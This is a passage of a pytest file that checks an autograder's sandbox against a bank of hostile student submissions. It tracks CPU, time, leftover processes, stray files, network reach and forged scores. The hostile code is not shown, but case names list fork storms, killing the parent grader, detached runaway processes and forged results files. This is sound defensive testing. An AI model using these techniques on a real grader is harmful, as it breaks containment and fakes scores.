    file the submission leaves in its folder)."""
    for marker in TMP.glob(f"micrograd-worker-*/{tag}.here"):
        shutil.rmtree(marker.parent, ignore_errors=True)


def tagged_files(tag, w):
    """Files named with the tag in every place a submission might write to, including
    worker folders the grader left behind."""
    places = [HOME, REPO, REPO / "autograder", REPO / "tests", Path("/tmp"), TMP,
              w.submission_folder, w.submission_folder.parent, w.out_folder]
    places += list(TMP.glob("micrograd-worker-*"))
    found = []
    for place in places:
        try:
            found += [str(p) for p in place.iterdir() if tag in p.name]
        except OSError:
            pass
    return found


@dataclass
class Graded:
    returncode: int | None          # None: the grader was stopped at the test's deadline
    seconds: float
    results: dict | None
    stdout: str
    stderr: str
    seen: set
    left_running: list
    files: list                     # files written outside the grader's temporary folders
    left_info: str = ""             # what the processes left running were
    cpu: float = 0.0                # CPU seconds of the grader and every process it waited for

    def stage_score(self, stage):
        return sum(t["score"] for t in self.results["tests"] if f"stage{stage}" in t["tags"])

    def failed(self, stage):
        return sorted(t["number"] for t in self.results["tests"]
                      if f"stage{stage}" in t["tags"] and t["status"] == "failed")


def grade(text, tmp_path, level, seconds, tag, deadline, name="submission.py"):
    folder, out = tmp_path / "submission", tmp_path / "out"
    folder.mkdir(exist_ok=True)
    out.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(text)
    json_path = out / "results.json"
    command = [sys.executable, "-m", "autograder", "grade", str(path), "--json", str(json_path),
               "--seed", str(SEED), "--sandbox", level]
    for key, value in seconds.items():
        command += [f"--{key.replace('_', '-')}", str(value)]
    before_folder = snapshot(folder)
    watcher = Watcher(tag)
    watcher.start()
    started, cpu_before = time.monotonic(), children_cpu()
    proc = subprocess.Popen(command, cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL)
    try:
        stdout, stderr = proc.communicate(timeout=deadline)
        code = proc.returncode
    except subprocess.TimeoutExpired:
        proc.kill()                      # the grader this test started, by its id
        stdout, stderr = proc.communicate()
        code = None
    seconds_taken = time.monotonic() - started
    cpu_taken = children_cpu() - cpu_before
    watcher.stop()
    left = still_running(tag)
    left_info = describe(left)
    kill_leftovers(left)
    w = Where(tag, folder, out)
    files = tagged_files(tag, w)
    remove_left_worker_folders(tag)
    if snapshot(folder) != before_folder:
        files.append(f"{folder}: {sorted(set(snapshot(folder)) - set(before_folder))}")
    extra_out = set(snapshot(out)) - {"results.json"}
    if extra_out:
        files.append(f"{out}: {sorted(extra_out)}")
    try:
        results = json.loads(json_path.read_text())
    except (OSError, ValueError):
        results = None
    return Graded(code, seconds_taken, results, stdout.decode(errors="replace")[-20000:],
                  stderr.decode(errors="replace")[-20000:], watcher.seen, left, files, left_info,
                  cpu_taken)


def children_cpu():
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


@functools.cache
def baseline(level):
    """(CPU, wall-clock) seconds grading the plain reference takes at this level, in this run."""
    folder = Path(tempfile.mkdtemp(prefix="hostile-baseline-"))
    try:
        g = grade(REFERENCE.read_text(), folder, level, LIMITS, "mg-baseline", deadline=120)
        assert g.returncode == 0 and g.results["score"] == 100, g.stderr
        return g.cpu, g.seconds
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def expected_scores(lose):
    scores = {}
    for stage in STAGES:
        lost = lose.get(stage, [])
        scores[stage] = sum(c.points for c in TABLE if c.stage == stage
                            and lost != ALL and c.id not in lost)
    return scores


# ---------------------------------------------------------------------------------------
# The verdict
# ---------------------------------------------------------------------------------------

def properties(case, g, w, level, twin=None):
    """[(property, holds, message)] for one graded case."""
    lose = case.limits_lose if (level == "limits" and case.limits_lose is not None) else case.lose
    checks = [("exit", g.returncode == 0 and g.results is not None and "Traceback" not in g.stderr,
               f"exit status {g.returncode} (None: still running at the deadline), "
               f"results.json {'written' if g.results else 'missing'}; stderr: {g.stderr[-1500:]}"),
              ("cpu", g.cpu <= case.bound(level)[0],
               f"{g.cpu:.1f} s of CPU, more than its limits allow ({case.bound(level)[0]:.1f} s)"),
              ("time", g.seconds <= case.bound(level)[1],
               f"{g.seconds:.1f} s, more than its limits allow ({case.bound(level)[1]:.1f} s)")]
    if g.results is not None:
        if twin is not None:
            want = {s: twin.stage_score(s) for s in STAGES}
            lost = {s: twin.failed(s) for s in STAGES}
        else:
            want, lost = expected_scores(lose), {}
        got = {s: g.stage_score(s) for s in STAGES}
        if case.may_lose_more:
            checks.append(("score", all(got[s] <= want[s] for s in STAGES),
                           f"points it did not earn: got {got}, its honest part deserves {want}"))
        else:
            checks.append(("score", got == want, f"got {got}, its honest part deserves {want}"))
        if twin is not None:
            won = {s: sorted(set(lost[s]) - set(g.failed(s))) for s in STAGES}
            exact = case.may_lose_more or all(g.failed(s) == lost[s] for s in STAGES)
            checks.append(("score", not any(won.values()) and exact,
                           f"failed {[g.failed(s) for s in STAGES]}, the honest part fails "
                           f"{[lost[s] for s in STAGES]}; passed only by the hostile code: {won}"))
    if case.spawns:
        checks.append(("processes", bool(g.seen),
                       "the submission's processes were never seen: the next check proves nothing"))
    checks.append(("processes", not g.left_running,
                   f"still running after the grader ended: {g.left_running} {g.left_info}"))
    checks.append(("files", not g.files, f"written outside the grader's folders: {g.files}"))
    if case.extra:
        checks += case.extra(g, w)
    return checks


def verdict(case, checks, level):
    """Fail on any broken property, except those of the case's known hole at this level,
    which raise KnownHole (the one exception its xfail marker accepts)."""
    hole = case.holes.get(level)
    excused = set(hole[0].split("+")) if hole else set()
    broken = [(prop, message) for prop, ok, message in checks if not ok]
    real = [f"{prop}: {message}" for prop, message in broken if prop not in excused]
    assert not real, f"{case.name} at the {level} level:\n" + "\n".join(real)
    if broken:
        raise KnownHole(f"{case.name} at the {level} level: " +
                        "; ".join(f"{prop}: {message}" for prop, message in broken))


def run_case(case, level, tmp_path):
    if case.only_bubblewrap and level != "bubblewrap":
        pytest.skip(f"not at the {level} level: {case.only_bubblewrap}")
    listener = None
    if case.listens:
        listener = socket.create_server(("127.0.0.1", 0))
        listener.setblocking(False)
    tag = case.tag(level)
    w = Where(tag, tmp_path / "submission", tmp_path / "out",
              listener.getsockname()[1] if listener else 0)
    seconds = case.seconds()
    try:
        g = grade(build_text(case, w), tmp_path, level, seconds, tag,
                  deadline=case.bound(level)[1] + case.deadline)
    finally:
        if listener:
            try:
                conn, _ = listener.accept()
                conn.close()
                reached = True
            except BlockingIOError:
                reached = False
            listener.close()
    if listener:
        case = dataclasses.replace(case, extra=lambda g, w: [(
            "network", not reached, "the submission connected to the grader's machine")])
    twin = None
    if case.twin is not None:
        twin_dir = tmp_path / "twin"
        twin_dir.mkdir()
        twin = grade(case.twin(w), twin_dir, level, seconds, "mg-no-tag", deadline=case.bound(level)[1] + 3)
        assert twin.returncode == 0 and twin.results, twin.stderr
    verdict(case, properties(case, g, w, level, twin), level)


def params(cases, level):
    out = []
    for c in cases:
        hole = c.holes.get(level)
        marks = ([pytest.mark.xfail(strict=True, raises=KnownHole,
                                    reason=f"{hole[1]} [breaks: {hole[0]}]")] if hole else [])
        out.append(pytest.param(c.name, marks=marks, id=c.name))
    return out


# ---------------------------------------------------------------------------------------
# The tests
# ---------------------------------------------------------------------------------------

def test_is_the_bank_large_enough():
    assert len(CASE) == len(CASES) >= 20
    assert sum(c.at_limits for c in CASES) >= 15
    assert len({c.tag(level) for c in CASES for level in sandbox.LEVELS}) == 3 * len(CASES)


def test_is_the_strongest_level_the_one_this_machine_should_offer():
    """Where bwrap is installed and works, "auto" must pick it: a silent downgrade would make
    every test below prove less than it claims."""
    if sandbox._works("bubblewrap") is None:
        assert STRONGEST == "bubblewrap"
    else:
        pytest.skip(f"bubblewrap cannot run here: {sandbox._works('bubblewrap')}")


@pytest.mark.parametrize("name", params(CASES, STRONGEST))
def test_is_a_submission_contained_at_the_strongest_level_when_it(name, tmp_path):
    run_case(CASE[name], STRONGEST, tmp_path)


@pytest.mark.parametrize("name", params([c for c in CASES if c.at_limits], "limits"))
def test_does_the_limits_level_keep_its_promises_when_a_submission(name, tmp_path):
    run_case(CASE[name], "limits", tmp_path)


@pytest.mark.parametrize("name", params([CASE[n] for n in (
    "kills_its_parent", "detaches_a_grandchild_that_keeps_running", "forks_a_storm_of_sleepers",
    "loops_forever_in_backward", "writes_to_home_and_next_to_the_submission")], "separate-user"))
def test_is_a_submission_contained_at_the_separate_user_level_when_it(name, tmp_path):
    reason = sandbox._works("separate-user")
    if reason:
        pytest.skip(f"the separate-user level cannot run on this machine: {reason}")
    run_case(CASE[name], "separate-user", tmp_path)


def test_does_strict_refuse_to_grade_without_bubblewrap(tmp_path):
    """--sandbox strict: bubblewrap, or no grading at all (exit 1, with the reason)."""
    path = tmp_path / "submission.py"
    path.write_text(reference())
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(path), "--sandbox",
                          "strict", "--stage", "1"], cwd=REPO, capture_output=True, text=True,
                         timeout=120)
    if sandbox._works("bubblewrap") is None:
        assert run.returncode == 0, run.stderr
        assert "Total: 20 / 20" in run.stdout
    else:
        assert run.returncode == 1
        assert "Not grading: the bubblewrap sandbox cannot run on this machine" in run.stderr


def test_does_an_unavailable_level_say_why_instead_of_grading(tmp_path):
    reason = sandbox._works("separate-user")
    if not reason:
        pytest.skip("the separate-user level runs here")
    path = tmp_path / "submission.py"
    path.write_text(reference())
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(path), "--sandbox",
                          "separate-user"], cwd=REPO, capture_output=True, text=True, timeout=120)
    assert run.returncode == 1
    assert reason in run.stderr and "Traceback" not in run.stderr


# ---------------------------------------------------------------------------------------
# A class with hostile submissions mixed in
# ---------------------------------------------------------------------------------------

# The reference, and four one-line mistakes of the catalogue (course/mistakes.py).
HONEST_KINDS = ["correct", "mul_same_operand", "seed_zero", "relu_passes_negative",
                "train_wrong_sign"]
BATCH_HOSTILE = ["loops_forever_at_import", "grows_a_list_forever_at_import",
                 "calls_os_exit_at_import", "segfaults_in_exp", "kills_its_parent",
                 "forges_results_files_and_passed_lines", "kills_its_own_process_group",
                 "forks_a_storm_of_sleepers", "detaches_a_grandchild_that_keeps_running",
                 "runs_threads_that_never_stop"]
# 190 honest submissions and the 10 hostile ones: about 16 s with --jobs 2 on 2 cores.
CLASS_SIZE = 200


def honest_text(kind):
    return reference() if kind == "correct" else mistakes.entry(kind).text(reference())


def per_check(results):
    return {t["number"]: (t["score"], t["status"]) for t in results["tests"]}


def test_does_a_class_with_hostile_submissions_give_every_honest_one_its_own_score(tmp_path):
    """190 honest submissions (the reference and four one-line mistakes) and 10 hostile ones
    from the bank, graded as a folder with --jobs 2: every honest submission gets exactly the
    score it gets when graded alone, every hostile one what the bank expects, and nothing of
    theirs is left running or written outside."""
    level = STRONGEST
    if level != "bubblewrap":
        pytest.skip("kills_its_parent would kill the judge's own user's processes below bubblewrap")
    folder, out = tmp_path / "class", tmp_path / "grades"
    folder.mkdir()
    seconds = {"test_seconds": 1, "load_seconds": 3, "submission_seconds": 15}
    limit_args = [a for key, value in seconds.items() for a in (f"--{key.replace('_', '-')}", str(value))]
    honest = {}
    kinds = list(HONEST_KINDS)
    n_honest = CLASS_SIZE - len(BATCH_HOSTILE)
    for i in range(n_honest):
        kind = kinds[i % len(kinds)]
        sid = f"student{i:03d}_{kind}"
        (folder / f"{sid}.py").write_text(honest_text(kind))
        honest[sid] = kind
    hostile = {}
    for name in BATCH_HOSTILE:
        case = CASE[name]
        w = Where(case.tag("batch"), folder, out)
        (folder / f"hostile_{name}.py").write_text(build_text(case, w))
        hostile[f"hostile_{name}"] = case
    watchers = [Watcher(c.tag("batch")) for c in hostile.values()]
    for watcher in watchers:
        watcher.start()
    started = time.monotonic()
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(folder), "--out", str(out),
                          "--jobs", "2", "--seed", str(SEED), "--sandbox", level, *limit_args],
                         cwd=REPO, capture_output=True, text=True, timeout=600)
    seconds_taken = time.monotonic() - started
    for watcher in watchers:
        watcher.stop()
    left = {c.name: still_running(c.tag("batch")) for c in hostile.values()}
    kill_leftovers([pid for pids in left.values() for pid in pids])
    assert run.returncode == 0, run.stderr[-3000:]
    print(f"graded {CLASS_SIZE} submissions in {seconds_taken:.1f} s")

    # alone: each kind of honest submission once, with the same seed and limits
    alone = {}
    for kind in kinds:
        path = tmp_path / "alone" / f"{kind}.py"
        path.parent.mkdir(exist_ok=True)
        path.write_text(honest_text(kind))
        json_path = path.with_suffix(".json")
        single = subprocess.run([sys.executable, "-m", "autograder", "grade", str(path), "--json",
                                 str(json_path), "--seed", str(SEED), "--sandbox", level, *limit_args],
                                cwd=REPO, capture_output=True, text=True, timeout=120)
        assert single.returncode == 0, single.stderr
        alone[kind] = per_check(json.loads(json_path.read_text()))

    gradebook = (out / "gradebook.csv").read_text().splitlines()
    assert len(gradebook) == 1 + CLASS_SIZE
    differ = {sid: kind for sid, kind in honest.items()
              if per_check(json.loads((out / sid / "results.json").read_text())) != alone[kind]}
    assert not differ, f"honest submissions graded differently in the class than alone: {differ}"
    for sid, case in hostile.items():
        results = json.loads((out / sid / "results.json").read_text())
        got = {s: sum(t["score"] for t in results["tests"] if f"stage{s}" in t["tags"]) for s in STAGES}
        assert got == expected_scores(case.lose), f"{sid}: {got}"
        assert case.tag("batch") not in json.dumps(results), f"{sid}: forged text in its results"
        assert sorted(p.name for p in (out / sid).iterdir()) == ["feedback.md", "results.json"]
    assert not any(left.values()), f"still running after the batch: {left}"
    assert all(w.seen for w, c in zip(watchers, hostile.values()) if c.spawns)
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [f"{sid}.py" for sid in honest] + [f"{sid}.py" for sid in hostile])
    stray = [f for c in hostile.values()
             for f in tagged_files(c.tag("batch"), Where(c.tag("batch"), folder, out))]
    assert not stray, f"written outside the grader's folders: {stray}"
